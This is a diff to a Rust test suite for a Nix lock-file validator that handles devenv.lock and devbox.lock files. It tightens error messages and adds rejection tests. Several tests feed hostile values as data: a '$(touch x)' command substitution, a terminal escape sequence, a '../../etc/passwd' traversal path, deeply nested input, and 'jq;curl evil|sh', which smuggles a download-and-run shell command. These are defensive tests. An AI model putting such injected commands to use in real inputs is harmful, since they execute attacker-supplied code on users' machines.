@@ -30,12 +30,12 @@ fn pkg(version: &str, systems: &[&str]) -> LockedPackage {
                         outputs: vec![
                             out(
                                 "man",
-                                &format!("/nix/store/bbb-ansible-{version}-man-{s}"),
+                                &format!("/nix/store/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb-ansible-{version}-man-{s}"),
                                 false,
                             ),
                             out(
                                 "out",
-                                &format!("/nix/store/aaa-ansible-{version}-{s}"),
+                                &format!("/nix/store/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-ansible-{version}-{s}"),
                                 true,
                             ),
                         ],
@@ -74,11 +74,11 @@ fn render_is_canonical() {
             {{
               "default": true,
               "name": "out",
-              "path": "/nix/store/aaa-ansible-2.16.5-x86_64-linux"
+              "path": "/nix/store/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-ansible-2.16.5-x86_64-linux"
             }},
             {{
               "name": "man",
-              "path": "/nix/store/bbb-ansible-2.16.5-man-x86_64-linux"
+              "path": "/nix/store/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb-ansible-2.16.5-man-x86_64-linux"
             }}
           ]
         }}
@@ -173,11 +173,11 @@ fn bad_locks_are_named_precisely() {
         ),
         (
             good.replace("x86_64-linux\": {", "x86_64-windows\": {"),
-            "package `a@1` lists the unknown system `x86_64-windows`",
+            "package `a@1`: `systems.x86_64-windows` is `x86_64-windows`, not a known system",
         ),
         (
-            good.replace("/nix/store/aaa-ansible-1-x86_64-linux", "/usr/bin/ansible"),
-            "`/usr/bin/ansible` is not a store path under /nix/store",
+            good.replace("/nix/store/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-ansible-1-x86_64-linux", "/usr/bin/ansible"),
+            "package `a@1`: `systems.x86_64-linux.outputs[0].path` is not a store path: store path `/usr/bin/ansible` is not inside `/nix/store/`",
         ),
         (
             good.replace("\"a@1\"", "\"a\""),
@@ -193,14 +193,34 @@ fn bad_locks_are_named_precisely() {
         ),
         (
             good.replace(REV, "main"),
-            "package `a@1`: `resolved` must be `github:NixOS/nixpkgs/<40-hex revision>#<attribute>`, not `github:NixOS/nixpkgs/main#ansible`",
+            "package `a@1`: `resolved` must be `github:NixOS/nixpkgs/<40-hex revision>#<attribute>`, not `github:NixOS/nixpkgs/main#ansible` (its part is `main`, not a 40-character lowercase hexadecimal git revision)",
         ),
         (
             good.replace(
                 &format!("\"outputs\": [{}]", &good[good.find("\"outputs\": [").unwrap() + 12..good.find("]\n        }").unwrap()]),
                 "\"outputs\": []",
             ),
-            "package `a@1` on `x86_64-linux` lists no outputs",
+            "package `a@1`: `systems.x86_64-linux.outputs` lists no outputs",
+        ),
+        (
+            good.replace("#ansible", "#a\\n$(touch x)"),
+            "package `a@1`: `resolved` must be `github:NixOS/nixpkgs/<40-hex revision>#<attribute>`, not `github:NixOS/nixpkgs/0123456789abcdef0123456789abcdef01234567#a\\n$(touch x)`",
+        ),
+        (
+            good.replace("\"version\": \"1\"", "\"version\": \"1\\u001b[31m\""),
+            "package `a@1`: `version` is `1\\e[31m`, which contains a control or invisible formatting character",
+        ),
+        (
+            good.replace(&format!("/nix/store/{}-ansible-1-x86_64-linux", "a".repeat(32)), "/nix/store/../../etc/passwd"),
+            "`systems.x86_64-linux.outputs[0].path` is not a store path",
+        ),
+        (
+            good.replace("\"name\": \"man\"", "\"name\": \"out\""),
+            "`systems.x86_64-linux.outputs[1].name` repeats the output `out`",
+        ),
+        (
+            format!("{}{}", "[".repeat(30_000), "]".repeat(30_000)),
+            "devenv.lock:1:65: the document nests deeper than 64 levels",
         ),
     ];
     let mut mismatches = Vec::new();
@@ -213,6 +233,17 @@ fn bad_locks_are_named_precisely() {
         assert!(
             rendered.starts_with("error: `devenv.lock` is not a valid lock file"),
             "{rendered}"
+        );
+        // Values are quoted escaped: the message itself carries no control characters.
+        assert!(
+            !rendered.chars().any(|c| c.is_control() && c != '\n'),
+            "{rendered:?}"
+        );
+        assert!(
+            rendered.lines().all(|l| ["error:", "  caused by:", "hint:"]
+                .iter()
+                .any(|p| l.starts_with(p))),
+            "{rendered:?}"
         );
     }
     assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
@@ -472,4 +503,32 @@ fn non_utf8_files_are_bad_input_with_position() {
         "{}",
         report.render()
     );
+}
+
+#[test]
+fn devbox_locks_follow_the_same_rules_and_bounds() {
+    let bad = |text: &str| {
+        let report = Report::from_error(&devbox::parse_devbox(text, "devbox.lock").unwrap_err());
+        assert_eq!(report.exit_code, EXIT_BAD_INPUT);
+        report.render()
+    };
+    let deep = format!("{}{}", "{\"a\":".repeat(30_000), "}".repeat(30_000));
+    let report = bad(&deep);
+    assert!(
+        report.contains("devbox.lock:1:321: the document nests deeper than 64 levels"),
+        "{report}"
+    );
+    let code = format!(
+        r#"{{"lockfile_version": "1", "packages": {{"jq@1": {{"version": "1",
+        "resolved": "github:NixOS/nixpkgs/{REV}#jq;curl evil|sh"}}}}}}"#
+    );
+    let report = bad(&code);
+    assert!(
+        report.contains("package `jq@1`: `resolved` must be")
+            && report.contains("#jq;curl evil|sh`"),
+        "{report}"
+    );
+    // An entry Devbox never resolved is stale, not invalid.
+    let stale = r#"{"lockfile_version": "1", "packages": {"poetry": {"plugin_version": "0.0.4"}}}"#;
+    assert!(devbox::parse_devbox(stale, "devbox.lock").is_ok());
 }
